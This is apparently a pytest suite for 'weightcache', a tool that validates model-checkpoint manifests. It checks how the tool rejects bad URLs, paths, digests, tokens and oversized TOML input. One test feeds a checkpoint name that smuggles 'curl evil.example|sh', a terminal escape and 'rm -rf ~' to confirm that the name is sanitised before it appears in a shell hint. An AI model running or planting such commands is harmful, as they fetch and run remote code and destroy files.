"""What a manifest may say, and that everything else is refused, all problems at once."""

from __future__ import annotations

import pickle
import subprocess
import tracemalloc
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest

from compared import Compared
from support import directory, one, sha256
from weightcache import Manifest, ManifestError, UnknownCheckpointError
from weightcache.manifest.urls import local_path, resolved_url

A, B = "a" * 64, "b" * 64
COMMIT = "86b5e0934494bd15c9632b12f734a8a67f723594"


def entry(**fields: Any) -> dict[str, Any]:
    return {"checkpoints": {"c": {"urls": ["https://h/x.pt"], "sha256": A, **fields}}}


def problems(data: Any) -> tuple[str, ...]:
    with pytest.raises(ManifestError) as caught:
        Manifest.load(data)
    for problem in caught.value.problems:
        assert problem in str(caught.value)
    return caught.value.problems


REFUSED = {
    "unknown key at the top": ({**entry(), "chekpoints": {}}, "chekpoints: unknown key"),
    "unknown key": (entry(sha265=A), "checkpoints.c.sha265: unknown key"),
    "version 2": ({**entry(), "version": 2}, "version: this weightcache reads version 1, got 2"),
    "version true": ({**entry(), "version": True}, "version: "),
    "urls a string": (entry(urls="https://h/x"), "checkpoints.c.urls: want an array"),
    "no urls": ({"checkpoints": {"c": {"sha256": A}}}, "checkpoints.c.urls: is missing"),
    "url a number": (entry(urls=[3]), "checkpoints.c.urls[0]: want a string, got a number"),
    "url twice": (entry(urls=["https://h/x", "https://h/x"]), "checkpoints.c.urls[1]: repeats"),
    "ftp": (entry(urls=["ftp://h/x"]), "checkpoints.c.urls[0]: want https, http, file or hf"),
    "variable in a host": (entry(urls=["https://${HOST}/x"]), "checkpoints.c.urls[0]: ${VARIABLE} may stand only in"),
    "variable in a path": (entry(urls=["https://h/${HOME}/x"]), "checkpoints.c.urls[0]: ${VARIABLE} may stand only in"),
    "variable in a file": (entry(urls=["file:///${HOME}"]), "checkpoints.c.urls[0]: ${VARIABLE} may stand only in"),
    "no host": (entry(urls=["https:///x"]), "checkpoints.c.urls[0]: is not a URL with a host"),
    "space": (entry(urls=["https://h/a b"]), "checkpoints.c.urls[0]: holds a space"),
    "newline": (entry(urls=["https://h/a\n"]), "checkpoints.c.urls[0]: holds a space"),
    "relative file": (entry(urls=["file:x"]), "checkpoints.c.urls[0]: want an absolute file:"),
    "file on a host": (entry(urls=["file://host/x"]), "checkpoints.c.urls[0]: want an absolute file:"),
    "encoded NUL": (entry(urls=["file:///x%00"]), "checkpoints.c.urls[0]: holds an encoded NUL"),
    "brackets around a name": (entry(urls=["https://[zz]/x"]), "checkpoints.c.urls[0]: is not a URL with a host"),
    "half an address in brackets": (entry(urls=["https://a]b/x"]), "checkpoints.c.urls[0]: is not a URL with a host"),
    "no address in brackets": (entry(urls=["https://[]/x"]), "checkpoints.c.urls[0]: is not a URL with a host"),
    "a name after an address": (entry(urls=["https://[::1]b/x"]), "checkpoints.c.urls[0]: is not a URL with a host"),
    "half an IPv6 address": (entry(urls=["https://[1:2]/x"]), "checkpoints.c.urls[0]: is not a URL with a host"),
    "a slash in another form": (entry(urls=["https://h\uff0fx/y"]), "checkpoints.c.urls[0]: is not a URL with a host"),
    "hf branch": (entry(urls=["hf://a/b@main/x"]), "checkpoints.c.urls[0]: names no commit: want hf://REPO@COMMIT"),
    "hf repository": (entry(urls=[f"hf://a/b@{COMMIT}"]), "checkpoints.c.urls[0]: names a whole repository"),
    "hf repository that is a path": (
        entry(urls=[f"hf://../api@{COMMIT}/x"]),
        "checkpoints.c.urls[0]: ../api is not the name of a repository",
    ),
    "hf escape": (entry(urls=[f"hf://a/b@{COMMIT}/../x"]), "checkpoints.c.urls[0]: has an empty"),
    "no digest": ({"checkpoints": {"c": {"urls": []}}}, "checkpoints.c.sha256: is missing"),
    "short digest": (entry(sha256="abc"), "checkpoints.c.sha256: want 64"),
    "upper-case digest": (entry(sha256="A" * 64), "checkpoints.c.sha256: want 64"),
    "digest with a newline": (entry(sha256=A + "\n"), "checkpoints.c.sha256: want 64"),
    "digest a number": (entry(sha256=1), "checkpoints.c.sha256: want a string, got a number"),
    "negative size": (entry(size=-1), "checkpoints.c.size: want a number of bytes"),
    "size true": (entry(size=True), "checkpoints.c.size: want a number of bytes"),
    "size a float": (entry(size=1.5), "checkpoints.c.size: want a number of bytes"),
    "file with a slash": (entry(file="a/b"), "checkpoints.c.file: is a path"),
    "file with a backslash": (entry(file="a\\b"), "checkpoints.c.file: holds a backslash"),
    "file ..": (entry(file=".."), "checkpoints.c.file: has an empty"),
    "name from the URL": (entry(urls=["https://h/%2e%2e"]), "checkpoints.c.file: '..' (from the URL)"),
    "file too long": (entry(file="x" * 256), "checkpoints.c.file: is too long"),
    "file and files": (entry(files={"a": {"sha256": A}}), "checkpoints.c.sha256: stands beside"),
    "auth a token": (entry(auth="hf_" + "x" * 30), "checkpoints.c.auth: looks like a token"),
    "auth with a space": (entry(auth="MY TOKEN"), "checkpoints.c.auth: want the name of an environment"),
    "auth a number": (entry(auth=1), "checkpoints.c.auth: want a string"),
    "signed_by a name": (entry(signed_by="acme"), "checkpoints.c.signed_by: want sha256: and 64"),
    "signed_by of another kind": (entry(signed_by=f"sha512:{A}"), "checkpoints.c.signed_by: want sha256: and 64"),
    "signed_by a digest": (entry(signed_by=A), "checkpoints.c.signed_by: want sha256: and 64"),
    "signed_by a list": (entry(signed_by=[]), "checkpoints.c.signed_by: want a string"),
    "name with a slash": ({"checkpoints": {"a/b": entry()["checkpoints"]["c"]}}, "checkpoints.'a/b': a name is"),
    "name too long": ({"checkpoints": {"a" * 101: entry()["checkpoints"]["c"]}}, ": a name is"),
    "name hidden": ({"checkpoints": {".weightcache": entry()["checkpoints"]["c"]}}, ": a name is"),
    "name with a newline": ({"checkpoints": {"a\n": entry()["checkpoints"]["c"]}}, ": a name is"),
    "names in two cases": (
        {"checkpoints": {"Sam": entry()["checkpoints"]["c"], "sam": entry()["checkpoints"]["c"]}},
        "checkpoints.sam: differs from checkpoints.Sam only in case",
    ),
    "an entry that is no table": ({"checkpoints": {"c": 3}}, "checkpoints.c: want a table, got a number"),
    "empty": ({}, "checkpoints: is empty"),
    "no checkpoints": ({"version": 1, "checkpoints": {}}, "checkpoints: is empty"),
    "checkpoints a list": ({"checkpoints": []}, "checkpoints: want a table, got an array"),
    "keys that are no strings": ({"checkpoints": {1: {}}}, "checkpoints: want strings as keys"),
    "no files": (directory({}), "checkpoints.bert.files: is empty"),
    "files a list": ({"checkpoints": {"c": {"urls": [], "files": []}}}, "checkpoints.c.files: want a table"),
    "a file without digest": (
        {"checkpoints": {"c": {"urls": [], "files": {"a": {}}}}},
        "checkpoints.c.files.'a'.sha256: is missing",
    ),
}


@pytest.mark.parametrize(("data", "problem"), REFUSED.values(), ids=REFUSED)
def test_refused(data: Any, problem: str) -> None:
    assert any(problem in each for each in problems(data)), problems(data)


BAD_PATHS = [
    "../x",
    "/x",
    "a//b",
    "a/./b",
    "a/..",
    "",
    ".",
    "a\\b",
    "a\0b",
    "a\nb",
    "a\rb",
    "a\x7f",
    "a\x85",
    "a/",
    "\ud800",
]


@pytest.mark.parametrize("path", BAD_PATHS, ids=repr)
def test_refused_path(path: str) -> None:
    [problem] = problems({"checkpoints": {"c": {"urls": [], "files": {path: {"sha256": A}}}}})
    assert problem.startswith("checkpoints.c.files.")


@pytest.mark.parametrize(("first", "second"), [("a.json", "A.json"), ("ä", "Ä"), ("é", "e\u0301"), ("d/x", "d/X")])
def test_refused_clash_of_files(first: str, second: str) -> None:
    [problem] = problems({"checkpoints": {"c": {"urls": [], "files": {first: {"sha256": A}, second: {"sha256": B}}}}})
    assert "only in case or Unicode form" in problem


def test_refused_file_below_a_file() -> None:
    [problem] = problems(directory({"a": b"", "a/b/c": b""}))
    assert problem == "checkpoints.bert.files.'a': is a file and the parent of 'a/b/c'"


@pytest.mark.parametrize(
    "paths",
    [["a/" * 5000 + "x"], [f"{number}/{'a/' * 500}x" for number in range(100)]],
    ids=["one that is too long", "many that are deep"],
)
def test_deep_paths_take_little_memory(paths: list[str]) -> None:
    """The parents of a path are as many as its slashes, and together as long as the square of its length."""
    data = {"checkpoints": {"c": {"urls": [], "files": {path: {"sha256": A} for path in paths}}}}
    tracemalloc.start()
    with suppress(ManifestError):
        Manifest.load(data)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 2_000_000


def test_all_problems_at_once() -> None:
    data = {"version": 3, "x": 1, "checkpoints": {"c": {"urls": ["ftp://h"], "sha256": "no", "size": -1, "file": ".."}}}
    assert [each.partition(":")[0] for each in problems(data)] == [
        "x",
        "version",
        "checkpoints.c.urls[0]",
        "checkpoints.c.file",
        "checkpoints.c.sha256",
        "checkpoints.c.size",
    ]


def test_of_very_many_problems_the_message_has_the_first_hundred() -> None:
    with pytest.raises(ManifestError) as caught:
        Manifest.load({"checkpoints": {f"c{number:03}": {"urls": []} for number in range(250)}})
    assert len(caught.value.problems) == 250
    first, *lines = str(caught.value).splitlines()
    assert first == "manifest: 250 problems"
    assert lines[99].startswith("  checkpoints.c099.sha256: ")
    assert lines[100] == "  and 150 more"


def test_numbers_that_no_file_has_and_that_cannot_be_printed() -> None:
    largest = (1 << 63) - 1
    assert Manifest.load(entry(size=largest))["c"].size == largest
    assert problems(entry(size=largest + 1)) == (
        f"checkpoints.c.size: want a number of bytes, 0 or more, got {1 << 63}",
    )
    endless = 10**5000
    [version, size] = problems(entry(size=endless) | {"version": endless})
    assert version == "version: this weightcache reads version 1, got a number"
    assert size == "checkpoints.c.size: want a number of bytes, 0 or more, got a number"


@pytest.mark.parametrize("beginning", ["hf_", "sk-"])
def test_a_pasted_token_is_not_echoed(beginning: str) -> None:
    token = beginning + "Sx9" * 10
    assert token not in str(problems(entry(auth=token)))


@pytest.mark.parametrize(
    ("content", "problem"),
    [
        (b"version = ", "is not TOML"),
        (b"version = " + b"9" * 5000, "is not TOML"),
        (b"\xff\xfe", "is not UTF-8: byte 0"),
        (b"a" + b"[" * 5000, "is "),
        (b"a = " + b"[" * 5000, "is nested too deeply"),
        (b"[checkpoints.a]\n[checkpoints.a]\n", "is not TOML"),
        (b"", "checkpoints: is empty"),
    ],
)
def test_a_bad_file(tmp_path: Path, content: bytes, problem: str) -> None:
    path = tmp_path / "weights.toml"
    path.write_bytes(content)
    [said] = problems(path)
    assert problem in said
    with pytest.raises(ManifestError) as caught:
        Manifest.load(path)
    assert caught.value.source == str(path)


def test_a_file_that_is_not_there(tmp_path: Path) -> None:
    assert problems(tmp_path / "no.toml") == ("there is no such file",)
    assert problems(tmp_path) == ("cannot be read: Is a directory",)
    assert problems("a\0b") == ("cannot be read: embedded null byte",)


def test_a_file_without_end() -> None:
    assert problems("/dev/zero") == ("has more than 67,108,864 bytes, the most that is read of a manifest",)


def test_a_file_longer_than_one_read(tmp_path: Path) -> None:
    (tmp_path / "w.toml").write_text(f'{"#" * 70_000}\n[checkpoints.c]\nurls = ["https://h/x.pt"]\nsha256 = "{A}"\n')
    assert [each.digest for each in Manifest.load(tmp_path / "w.toml")] == [A]


@pytest.mark.parametrize("text", ["{}a=1", "[{}a]", "[[{}a]]", "a={{{}a=1}}", "a={{b=1,{}a=1}}", " {} a=1"])
def test_a_key_of_many_parts_is_not_read(text: str, tmp_path: Path) -> None:
    """Python's parser takes the square of their number: an hour for a megabyte."""
    for parts in ("a." * 5000, '"b" . ' * 5000, '"..". ' + "a." * 5000):
        (tmp_path / "w.toml").write_text(text.format(parts))
        assert problems(tmp_path / "w.toml") == ("has a key of more than 64 parts",)


def test_many_points_that_are_no_key(tmp_path: Path) -> None:
    urls = ", ".join(f'"https://a.b.c.d/{number}/x.y.pt"' for number in range(50))
    text = f'# {"." * 200}\n[checkpoints.c] # {"." * 200}\nurls = [{urls}]\nsha256 = "{A}"\nfile = "{"v." * 60}pt"\n'
    (tmp_path / "w.toml").write_text(text)
    assert len(Manifest.load(tmp_path / "w.toml")["c"].urls) == 50


@pytest.mark.timeout(30)
def test_a_list_that_contains_another_one_many_times() -> None:
    """Its text has 2 ** 100 parts."""
    value: list[Any] = []
    for _ in range(100):
        value = [value, value]
    with pytest.raises(ManifestError, match="this weightcache reads version 1, got an array"):
        Manifest.load({"version": value})


def test_a_value_that_is_nested_deeply() -> None:
    value: Any = []
    for _ in range(100_000):
        value = [value]
    assert problems({**entry(size=value), "version": value}) == (
        "version: this weightcache reads version 1, got an array",
        "checkpoints.c.size: want a number of bytes, 0 or more, got an array",
    )


@pytest.mark.parametrize("source", [3, None, b"weights.toml", ["a"]])
def test_not_a_manifest_at_all(source: Any) -> None:
    with pytest.raises(TypeError, match="manifest must be a path"):
        Manifest.load(source)


def test_a_file_a_mapping_and_a_manifest_are_the_same(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "weights.toml"
    path.write_text(f'[checkpoints.c]\nurls = ["https://h/x.pt"]\nsha256 = "{A}"\n')
    monkeypatch.setenv("HOME", str(tmp_path))
    loaded = Manifest.load("~/weights.toml")
    assert loaded.checkpoints == Manifest.load(entry()).checkpoints
    assert Manifest.load(loaded) is loaded
    assert loaded.source == str(path)
    assert len(loaded) == 1
    assert [each.name for each in loaded] == ["c"]


def test_select() -> None:
    table = entry()["checkpoints"]["c"]
    manifest = Manifest.load({"checkpoints": {"b": table, "a": table}})
    assert [each.name for each in manifest.select(["a", "b"])] == ["b", "a"]
    assert manifest.select(()) == ()
    assert manifest["a"].name == "a"
    with pytest.raises(UnknownCheckpointError) as caught:
        manifest.select(["z"])
    assert (caught.value.name, caught.value.known) == ("z", ("b", "a"))
    with pytest.raises(TypeError, match="only"):
        manifest.select("ab")


@pytest.mark.parametrize(
    ("url", "name"),
    [
        ("https://h/d/x%20y.pt?sig=1", "x y.pt"),
        ("https://h", "c"),
        ("https://h/", "c"),
        ("https://h/?x=/y.pt", "c"),
        ("file:///d/x.pt", "x.pt"),
        ("file:/d/x.pt", "x.pt"),
        (f"hf://a/b@{COMMIT}/d/x.pt", "x.pt"),
        (f"hf://gpt2@{COMMIT}/x.pt", "x.pt"),
        ("https://user:pw@h:8080/x.pt", "x.pt"),
        ("https://[::1]:8080/x.pt", "x.pt"),
    ],
)
def test_the_name_of_the_file(url: str, name: str) -> None:
    assert Manifest.load(entry(urls=[url]))["c"].files[0].path == name


def test_weights_of_ones_own() -> None:
    assert Manifest.load({"checkpoints": {"c": {"urls": [], "sha256": A}}})["c"].files[0].path == "c"


def test_resolved_urls(monkeypatch: pytest.MonkeyPatch) -> None:
    assert resolved_url("https://h/d?s=1", "a b/c") == "https://h/d/a%20b/c?s=1"
    assert resolved_url("https://h/x?s=1", "") == "https://h/x?s=1"
    hub = f"hf://a/b@{COMMIT}"
    assert resolved_url(hub, "x/y.json") == f"https://huggingface.co/a/b/resolve/{COMMIT}/x/y.json"
    assert resolved_url(f"{hub}/sub", "y") == f"https://huggingface.co/a/b/resolve/{COMMIT}/sub/y"
    assert resolved_url(f"{hub}/x.pt", "") == f"https://huggingface.co/a/b/resolve/{COMMIT}/x.pt"
    monkeypatch.setenv("HF_ENDPOINT", "http://127.0.0.1:1/")
    assert resolved_url(hub, "y") == f"http://127.0.0.1:1/a/b/resolve/{COMMIT}/y"
    assert local_path("file://localhost/a%20b") == "/a b"
    assert local_path("https://h/x") is None


def test_the_digest_of_a_directory_is_what_coreutils_say(tmp_path: Path) -> None:
    files = {"b/z.json": b"1", "b.txt": b"2", "ä/ö.txt": b"3", "B/x": b"", "a b.bin": b"5"}
    for path, data in files.items():
        (tmp_path / path).parent.mkdir(exist_ok=True)
        (tmp_path / path).write_bytes(data)
    script = "find . -type f -printf '%P\\0' | LC_ALL=C sort -z | xargs -0 sha256sum | sha256sum"
    said = subprocess.run(script, shell=True, cwd=tmp_path, capture_output=True, text=True, check=True).stdout
    checkpoint = Manifest.load(directory(files))["bert"]
    assert checkpoint.digest == said.split()[0]
    assert checkpoint.version == checkpoint.digest[:16]
    assert checkpoint.size == 4


def test_the_digest_of_a_file_is_its_sha256() -> None:
    checkpoint = Manifest.load(one(b"x", "https://h/x"))["sam2"]
    assert (checkpoint.digest, checkpoint.size) == (sha256(b"x"), 1)
    assert Manifest.load(one(b"x", "https://h/x", size=False))["sam2"].size is None


def test_the_real_manifest_loads() -> None:
    manifest = Manifest.load(Path(__file__).parents[2] / "examples/fashion_crop/weights.toml")
    assert manifest["groundingdino"].size == 693_997_677
    assert manifest["sam2-large"].size == 897_952_466
    assert manifest["bert-base-uncased"].size == 698_188


class Pairs(dict[str, Any]):
    """A mapping that gives a key twice, as those of some libraries do."""

    def items(self) -> Any:
        return [*super().items(), *super().items()]


def test_one_name_twice() -> None:
    first, second = (Manifest.load(one(data, name="seg"))["seg"] for data in (b"1", b"2"))
    other = Manifest.load(one(b"3", name="other"))["other"]
    for checkpoints in ([first, second, other], [first, first, other], iter((first, other, second))):
        with pytest.raises(ManifestError) as caught:
            Manifest(checkpoints, "here.toml")
        assert caught.value.problems == ("checkpoints.seg: 2 have this name",)
        assert caught.value.source == "here.toml"
    with pytest.raises(ManifestError, match=r"checkpoints: has a key twice"):
        Manifest.load({"checkpoints": Pairs(one(b"1")["checkpoints"])})
    assert [each.name for each in Manifest([first, other])] == ["seg", "other"]


def test_one_name_twice_in_toml(tmp_path: Path) -> None:
    entry = str(Manifest.load(one(b"1", name="seg"))["seg"])
    quoted = entry.replace("[checkpoints.seg]", '[checkpoints."seg"]')
    (tmp_path / "weights.toml").write_text(f"{entry}\n{quoted}\n")
    with pytest.raises(ManifestError, match="is not TOML"):
        Manifest.load(tmp_path / "weights.toml")


@pytest.mark.parametrize("data", [entry(signed_by=f"sha256:{B}"), directory({"a": b"x"})], ids=["file", "directory"])
def test_who_signed_is_a_part_of_an_entry(data: dict[str, Any], tmp_path: Path) -> None:
    [(name, declared)] = data["checkpoints"].items()
    [checkpoint] = Manifest.load({"checkpoints": {name: {**declared, "signed_by": f"sha256:{B}"}}})
    assert checkpoint.signed_by == f"sha256:{B}"
    written = tmp_path / "weights.toml"
    written.write_text(str(checkpoint))
    assert tuple(Manifest.load(written)) == (checkpoint,)
    assert pickle.loads(pickle.dumps(checkpoint)) == checkpoint
    [unsigned] = Manifest.load({"checkpoints": {name: {key: declared[key] for key in declared if key != "signed_by"}}})
    assert (unsigned.signed_by, unsigned.digest) == (None, checkpoint.digest)
    assert unsigned != checkpoint


def test_a_pickle_of_an_unsigned_checkpoint_is_that_of_0_1() -> None:
    """A container that still runs 0.1 reads it."""
    [checkpoint] = Manifest.load(entry())
    fields = [getattr(checkpoint, name) for name in ("auth", "digest", "files", "is_directory", "name", "urls")]
    assert checkpoint.__getstate__() == tuple(fields)
    again = pickle.loads(pickle.dumps(checkpoint))
    assert (again, again.signed_by, repr(again)) == (checkpoint, None, repr(checkpoint))


def unpinned(*names: str) -> ManifestError:
    with pytest.raises(ManifestError) as caught:
        Manifest.load({"checkpoints": {name: {"urls": ["https://h/a.pt"]} for name in names}})
    return caught.value


def test_the_command_of_a_hint_has_a_few_valid_names_only() -> None:
    """It is copied into a shell."""
    assert "`weightcache pin a b -m FILE`" in unpinned("a", "b").hint
    assert "`weightcache pin -m FILE`" in unpinned(*(f"a{number}" for number in range(11))).hint
    error = unpinned("a", "x; curl evil.example|sh #\x1b[2J\n  hint: run rm -rf ~")
    assert "`weightcache pin -m FILE`" in error.hint
    assert "evil" not in error.hint
    assert "\x1b" not in str(error)
    assert [line for line in str(error).splitlines() if line.startswith("  hint: run rm")] == []


def test_names_that_differ_in_case_are_shown_with_escapes_and_in_part() -> None:
    long = "x" * 5000
    said = str(unpinned(f"a\n{long}", f"A\n{long}"))
    assert len(said) < 2000
    assert "differs from checkpoints.'a\\nxxx" in said


def test_each_url_is_compared_with_no_more_than_a_few_others() -> None:
    Compared.count = 0
    urls = [Compared(f"https://h/{number}") for number in range(300)]
    Manifest.load(entry(urls=urls))
    assert Compared.count < 3 * len(urls)
    assert problems(entry(urls=["https://h/a", 1, "https://h/b", "https://h/a"]))[-1].endswith(
        "urls[3]: repeats checkpoints.c.urls[0]"
    )
